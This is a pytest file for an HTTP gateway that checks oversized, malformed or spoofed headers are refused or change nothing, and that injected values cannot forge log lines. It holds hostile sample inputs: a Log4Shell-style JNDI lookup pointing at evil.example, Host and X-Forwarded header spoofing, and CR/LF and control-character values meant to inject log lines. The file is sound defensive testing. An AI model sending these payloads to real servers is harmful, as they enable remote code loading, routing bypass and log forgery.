"""Headers that are refused or change nothing."""

import pytest

from tests.journeys.gate import FaultInjector
from tests.journeys.raw_requests.raw_client import MARKER, Post, first_of, get


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        *(
            ([f"X-{number}: a" for number in range(count)], status)
            for count, status in ((90, 200), (101, 431), (5_000, 431))
        ),
        *(
            (["X-Long: " + "a" * length], status)
            for length, status in ((8_000, 200), (8_200, 431), (65_536, 431))
        ),
        ([f"X-{number}: {'a' * 8_000}" for number in range(9)], 431),
        *(
            ([header], 400)
            for header in (
                "X Y: a",
                "X\x00: a",
                ": a",
                "nocolon",
                "X-A: a\x00b",
                "X-A: a\rb",
                "X-\xe9: a",
                "X(: a",
            )
        ),
        *(
            ([header], 200)
            for header in (
                "X-A: caf\xc3\xa9",
                "X-A: \xff\xfe",
                "X-A:",
                "X-A: ${jndi:ldap://evil.example}",
                "X_A: b",
            )
        ),
        *(
            ([header], 200)
            for header in (
                "SCRIPT_NAME: /evil.example",
                "PATH_INFO: /credits",
                "Script-Name: /x",
                "Proxy: http://evil.example",
            )
        ),
        *(
            ([header], 200)
            for header in (
                "Cookie: a=b; c",
                "Range: bytes=0-1",
                "Upgrade: h2c",
            )
        ),
        *(
            (
                [
                    "Upgrade: h2c",
                    "HTTP2-Settings: AAMAAABkAAQAAP__",
                    "Connection: Upgrade, HTTP2-Settings",
                ],
                200,
            ),
        ),
        *(
            ([f"X-Forwarded-{name}: {text}"], 200)
            for name, text in (
                ("For", "127.0.0.1"),
                ("Proto", "https"),
                ("Host", MARKER),
                ("Prefix", "//evil.example"),
            )
        ),
        (
            [
                "Forwarded: for=127.0.0.1;host=evil.example;proto=https",
                "X-Real-IP: ::1",
                "X-Original-URL: /credits",
            ],
            200,
        ),
        *(
            ([f"Host: {host}"], 200)
            for host in (MARKER, "evil.example:99999", "127.0.0.1", "[::1]", "")
        ),
        (["Host: a", f"Host: {MARKER}"], 400),
        (["Host: " + "a" * 300], 400),
        (["Connection: upgrade", "Upgrade: websocket"], 400),
        (["Content-Type: a/b", "Content-Type: application/json"], 400),
    ],
    ids=lambda part: str(part)[:40],
)
def test_headers_are_refused_or_change_nothing(
    gate: FaultInjector, headers: list[str], status: int
) -> None:
    assert first_of(gate, get("/health/live", *headers)).status == status


@pytest.mark.parametrize(
    "lines",
    [
        *("", "X-Host: a\r\n", "Host: a\r\nHost: a\r\n", "Host: a\r\nhOST: b\r\n"),
        *("Host: a b\r\n", "Host: a/b\r\n", "Host: a@b\r\n", "Host: a,b:c\r\n", "Host: [::1\r\n"),
    ],
)
def test_a_request_without_exactly_one_host_is_refused(gate: FaultInjector, lines: str) -> None:
    request = f"GET /health/live HTTP/1.1\r\n{lines}\r\n".encode()
    response = first_of(gate, request)
    assert (response.status, response.code, response.ends) == (400, "BAD_REQUEST", True)


def test_http_1_0_needs_no_host(gate: FaultInjector) -> None:
    (response,) = gate.exchange(b"GET /health/live HTTP/1.0\r\n\r\n")
    assert response.status == 200


@pytest.mark.parametrize("target", ["/nowhere", "/credits", "/docs", "/openapi.json", "/health/"])
def test_a_foreign_host_appears_in_no_response(gate: FaultInjector, target: str) -> None:
    headers = (
        f"Host: {MARKER}",
        f"X-Forwarded-Host: {MARKER}",
        "X-Forwarded-Proto: https",
        f"Origin: https://{MARKER}",
    )
    response = first_of(gate, get(target, *headers))
    assert "location" not in response.headers
    assert "access-control-allow-origin" not in response.headers


@pytest.mark.parametrize(
    "name", ["Authorization: Bearer x", "Idempotency-Key: a", "X-Request-Id: b", "X-Google-ID: bob"]
)
def test_a_header_that_names_someone_or_something_is_taken_once_only(
    gate: FaultInjector, post: Post, name: str
) -> None:
    response = first_of(gate, post.whole(name, name))
    assert (response.status, response.code, response.ends) == (400, "BAD_REQUEST", True)


@pytest.mark.parametrize(
    "header",
    [
        *(
            "Authorization: Bearer \xff\xfe",
            "Authorization: Bearer a b",
            "Authorization: bearer",
            "Authorization: Bearer  x",
            "Authorization:",
        ),
        *(
            "Authorization: Basic YTpi",
            "Authorization: Bearer " + "a" * 8_000,
            "Authorization: Bearer x,Bearer y",
        ),
    ],
)
def test_credentials_that_are_none_are_refused(gate: FaultInjector, header: str) -> None:
    assert first_of(gate, get("/credits", header)).status == 401


@pytest.mark.parametrize(
    "text", ["a\rINJECTED", "a\nINJECTED", "a\x00INJECTED", "a\x1b[2JINJECTED", "a\x7fINJECTED"]
)
@pytest.mark.parametrize(
    "name", ["Idempotency-Key", "X-Request-Id", "User-Agent", "X-Forwarded-For"]
)
def test_a_line_of_the_log_cannot_be_forged(
    gate: FaultInjector, post: Post, name: str, text: str
) -> None:
    response = first_of(gate, post.whole(f"{name}: {text}"))
    assert (response.status, response.code) == (400, "BAD_REQUEST")
    assert "INJECTED" not in gate.log.read_text()


@pytest.mark.parametrize(
    "text", ["a%0aINJECTED", "a\x85INJECTED", "\xe2\x80\xa8INJECTED", '{"level": "INJECTED"}']
)
def test_an_id_that_could_confuse_a_log_is_replaced(gate: FaultInjector, text: str) -> None:
    response = first_of(gate, get("/nowhere", f"X-Request-Id: {text}"))
    assert response.headers["x-request-id"].startswith("req_")
    assert "INJECTED" not in gate.log.read_text()
